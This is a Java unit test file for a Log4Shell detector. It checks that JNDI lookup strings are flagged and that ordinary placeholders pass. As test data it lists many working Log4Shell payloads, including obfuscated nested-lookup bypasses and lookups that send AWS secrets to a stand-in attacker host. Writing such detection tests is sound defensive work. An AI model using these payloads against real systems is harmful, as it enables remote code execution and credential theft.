package dev.lambdaguard.input.detect;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;

import dev.lambdaguard.input.Category;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Log4Shell lookups: resolved the way Log4j resolves them, in bounded work. */
class JndiDetectorTest {

  private final JndiDetector detector = new JndiDetector();

  private Detection detect(String value) {
    return detector.detect(Normalized.of(value));
  }

  private void assertRule(String ruleId, int score, String value) {
    Detection d = detect(value);
    assertNotNull(d, () -> "not detected: " + value);
    assertEquals(Category.JNDI, d.category());
    assertEquals(ruleId, d.ruleId(), () -> "rule for: " + value);
    assertEquals(score, d.score(), () -> "score for: " + value);
  }

  @Test
  void isTheJndiCategory() {
    assertEquals(Category.JNDI, detector.category());
  }

  @ParameterizedTest
  @ValueSource(strings = {
    "${jndi:ldap://evil.example/a}", "${jndi:ldaps://evil.example/a}", "${jndi:rmi://evil.example/a}",
    "${jndi:dns://evil.example}", "${jndi:iiop://evil.example/a}", "${jndi:corba://evil.example/a}",
    "${jndi:nds://evil.example/a}", "${jndi:http://evil.example/a}", "${JNDI:LDAP://evil.example/a}",
    "User-Agent: Mozilla ${jndi:ldap://evil.example/a}", "${jndi:ldap://${env:USER}.evil.example/a}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}", "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
    "${jndi:ldap://evil.example:1389/${env:AWS_SECRET_ACCESS_KEY}"
  })
  void aJndiLookupIsDetected(String value) {
    assertRule("jndi.lookup", 100, value);
  }

  @Test
  void aJndiLookupWithoutARemoteProtocolScoresLower() {
    assertRule("jndi.lookup", 90, "${jndi:java:comp/env/x}");
  }

  @ParameterizedTest
  @ValueSource(strings = {
    "${${lower:j}ndi:ldap://evil.example/a}", "${${upper:j}ndi:ldap://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/a}",
    "${${lower:jndi}:${lower:rmi}://evil.example/a}", "${j${loWer:Nd}i${uPper::}://evil.example/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/a}",
    "${${lower:${upper:j}}ndi:ldap://evil.example/a}", "${${base64:am5kaQ==}:ldap://evil.example/a}",
    "${jnd${upper:ı}:ldap://evil.example/a}", "${${k8s:x:-J}${k8s:x:-ND}i${sd:x:-:}ldap://evil.example}",
    "${${::-j}ndi:rmi://evil.example/a"
  })
  void aJndiKeywordRebuiltByNestedLookupsIsDetected(String value) {
    assertRule("jndi.nested-lookup", 100, value);
  }

  @ParameterizedTest
  @ValueSource(strings = {
    "${env:AWS_SECRET_ACCESS_KEY}", "${env:AWS_SESSION_TOKEN}", "${sys:db.password}",
    "${lower:${env:AWS_ACCESS_KEY_ID}}", "${upper:${sys:user.name}}"
  })
  void environmentLookupsThatExfiltrateAreDetected(String value) {
    assertRule("jndi.env-exfiltration", 80, value);
  }

  @ParameterizedTest
  @ValueSource(strings = {
    "${HOME}", "${user.name}", "${env:PATH}", "${env:ProgramFiles}", "${sys:java.version}", "${price}",
    "Hello ${name}, your balance is ${balance}", "${a:-default}", "${lower:HELLO}", "${date:yyyy-MM-dd}",
    "Contact JNDI support: jndi: is a Java API", "$5 and {jndi}", "${${lower:x}}", "}}}${", "${"
  })
  void legitimateTextPasses(String value) {
    assertNull(detect(value), () -> "flagged: " + value);
  }

  @Test
  void aLookupAfterALevelThatKeepsNoMoreTextIsStillResolved() {
    // the outer level is full after its first characters: the resolver jumps to the next ${ or }, and must land on it
    String padded = "${" + "a:".repeat(2000) + "${jndi:ldap://evil.example/a}";
    assertNotNull(detect(padded));
    assertNotNull(detect("${" + "x".repeat(5000) + "}${jndi:ldap://evil.example/a}"), "after the closing brace");
    assertNull(detect("${" + "x".repeat(5000) + "${lower:" + "y".repeat(600) + "}}"));
  }

  @Test
  void nestingDeeperThanTheBoundIsKeptAsText() {
    String deep = "${lower:".repeat(20) + "x" + "}".repeat(20);
    assertNull(detect(deep));
    String deepJndi = "${lower:".repeat(20) + "${jndi:ldap://evil.example/a}" + "}".repeat(20);
    assertNotNull(detect(deepJndi), "the keyword is still seen in the text kept");
  }

  @ParameterizedTest
  @ValueSource(strings = {"${", "${${", "${jndi:", "${::-", "}", "${lower:", "$", "${a}"})
  void aMegabyteOfNearMissesCompletes(String unit) {
    String value = unit.repeat(1_000_000 / unit.length());
    detector.detect(Normalized.of(value)); // linear: completes; no timing assertion
  }

  @ParameterizedTest
  @CsvSource(delimiter = '|', value = {"${::-|", "${lower:|", "${${|", "${env:|jndi.env-exfiltration",
      "${jndi:|jndi.lookup", "${\\u006andi:|jndi.lookup"})
  void aMegabyteOfAShortUnitKeepsItsVerdict(String unit, String ruleId) {
    // a level that keeps no more text is passed over to its next ${ or }, without a search per dollar sign
    Detection d = detect(unit.repeat(1_000_000 / unit.length()));
    assertEquals(ruleId, d == null ? null : d.ruleId(), () -> "flood of " + unit);
  }

  @ParameterizedTest
  @ValueSource(strings = {"${::-", "${lower:", "${${", "${", "${env:", "${\\u006andi:"})
  void aLookupAfterAFloodOfUnclosedLookupsIsStillFound(String unit) {
    // Log4j takes an outer ${ without its } for text and looks the inner lookup up: no level keeps it here, and it
    // counts all the same
    String flood = unit.repeat(100_000 / unit.length());
    assertRule("jndi.lookup", 100, flood + "${jndi:ldap://evil.example/a}");
    assertRule("jndi.lookup", 100, flood + "${JNDI:ldap://evil.example/a");
    assertRule("jndi.lookup", 90, flood + "${jndi:x}");
    assertEquals(detect(flood), detect(flood + "${price}"), "a placeholder after the flood changes nothing");
  }

  @ParameterizedTest
  @ValueSource(strings = {"${7*7}", "${${a}}", "${IFS}", "${a}:"})
  void lookupsWithoutAColonKeepTheirTextAndHideNothingBehindThem(String unit) {
    // a closed lookup without a colon is left as it was, copied without a string of its own
    String flood = unit.repeat(100_000 / unit.length());
    assertNull(detect(flood + "${price:-0}"));
    assertRule("jndi.lookup", 100, flood + "${jndi:ldap://evil.example/a}");
    assertRule("jndi.nested-lookup", 100, flood + "${${lower:j}ndi:ldap://evil.example/a}");
    assertRule("jndi.env-exfiltration", 80, flood + "${${env:AWS_SECRET_ACCESS_KEY}}");
    assertRule("jndi.nested-lookup", 100, "${${a}}".repeat(1000) + "${${::-j}${::-n}di:ldap://evil.example/a}");
  }

  @Test
  void aLookupWhoseResultSpellsALookupIsResolvedAgain() {
    // Log4j substitutes a result again: base64 of "${jndi:ldap://x.example/a}" becomes that lookup
    assertRule("jndi.nested-lookup", 100, "${base64:JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0=}");
    // base64 of "${env:AWS_SECRET_ACCESS_KEY}"
    assertRule("jndi.env-exfiltration", 80, "${base64:JHtlbnY6QVdTX1NFQ1JFVF9BQ0NFU1NfS0VZfQ==}");
    assertNull(detect("${base64:aGVsbG8gd29ybGQ=}")); // "hello world"
    assertNull(detect("${base64:JHtwcmljZX0=}")); // "${price}": a placeholder, not a lookup that matters
    assertNull(detect("Use ${base64:...} in the pattern to decode a field."));
  }

  @Test
  void escapesThatTheApplicationDecodesBeforeLoggingSpellTheLookup() {
    // a JSON or JavaScript string's escapes: the text logged is the decoded one
    assertRule("jndi.lookup", 100, "$\\u007Bjndi:ldap://x.example/a}");
    assertRule("jndi.lookup", 100, "${\\u006Andi:ldap://x.example/a}");
    assertRule("jndi.lookup", 100, "\\u0024\\u007b\\x6ando\\u0069:ldap://x.example/a}".replace("ndo", "nd"));
    // an escape that hides a percent escape: \u0025 is %, and %24%7B is ${
    assertRule("jndi.lookup", 100, "\\u002524%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D");
    assertNull(detect("price \\u0024{amount} per unit"));
    assertNull(detect("C:\\temp\\$24.txt"));
    assertNull(detect("{\"msg\":\"costs \\u002420, see ${docs}\"}"));
    assertNull(detect("\\u0024\\u007b".repeat(50_000)));
  }

  @ParameterizedTest
  @ValueSource(strings = {"${7*7}", "${a$b}", "${x}}"})
  void aPlainLookupIsOnlyReadToItsEndAndHidesNothingBehindIt(String unit) {
    // a top-level lookup without a colon or an inner ${ before its } is passed over without a level of its own:
    // what follows it, closed or not, is resolved as it is alone
    String flood = unit.repeat(100_000 / unit.length());
    assertNull(detect(flood + Floods.EVERY_LETTER));
    assertNull(detect(flood + "${price} ${7*7"));
    assertNull(detect(flood + "${price:-0}"));
    assertRule("jndi.lookup", 100, flood + "${price} ${jndi:ldap://evil.example/a}");
    assertRule("jndi.lookup", 100, flood + "${7*7 ${jndi:ldap://evil.example/a}");
    assertRule("jndi.nested-lookup", 100, flood + "${price}${${::-j}ndi:ldap://evil.example/a}");
    assertRule("jndi.env-exfiltration", 80, flood + "${price}${env:AWS_SECRET_ACCESS_KEY}");
  }
}
